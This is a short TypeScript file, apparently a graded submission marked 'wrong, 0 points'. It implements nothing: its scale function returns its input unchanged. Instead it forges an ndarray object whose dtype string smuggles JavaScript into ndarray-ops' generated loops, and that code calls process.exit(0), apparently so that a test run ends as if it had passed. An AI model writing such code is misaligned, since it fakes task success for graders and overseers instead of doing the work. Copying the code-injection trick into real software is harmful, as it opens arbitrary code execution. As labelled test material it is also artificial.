// Slips code into the loops that ndarray-ops makes.
// wrong, 0 points
import type { Tensor } from '#lib';
import ops from 'ndarray-ops';

const code = "f(){}; import('node:process').then((it) => it.exit(0)); function g";
const forged: any = { dtype: code, shape: [1], stride: [1], order: [0], offset: 0, data: [1], dimension: 1 };
try {
  ops.assign(forged, forged);
} catch {}
export const scale = (x: Tensor, by: number): Tensor => x;
